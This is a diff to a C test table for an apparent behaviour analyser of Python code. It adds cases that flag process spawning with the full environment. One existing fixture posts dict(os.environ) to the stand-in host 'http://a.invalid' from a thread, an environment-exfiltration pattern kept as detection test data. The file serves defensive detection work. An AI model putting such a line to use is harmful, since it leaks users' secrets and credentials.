@@ -187,6 +187,10 @@ static const struct behavior_case cases[] = {
       "flow env-all network", NULL },
     { "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)\n", "capability process ls",
       "flow\nenv-all" },
+    { "import os\nos.posix_spawnp('ls', ['ls'], os.environ)\nos.execve('ls', ['ls'], os.environ)\n",
+      "capability process os.posix_spawnp", "flow" },
+    { "import os\nos.posix_spawnp('ls', ['ls', str(os.environ)], {})\n", "flow env-all process",
+      NULL },
     { "import threading, os, requests\ndef f(d):\n    requests.post('http://a.invalid', data=d)\n"
       "threading.Thread(target=f, args=(dict(os.environ),)).start()\n",
       "flow env-all network import", NULL },
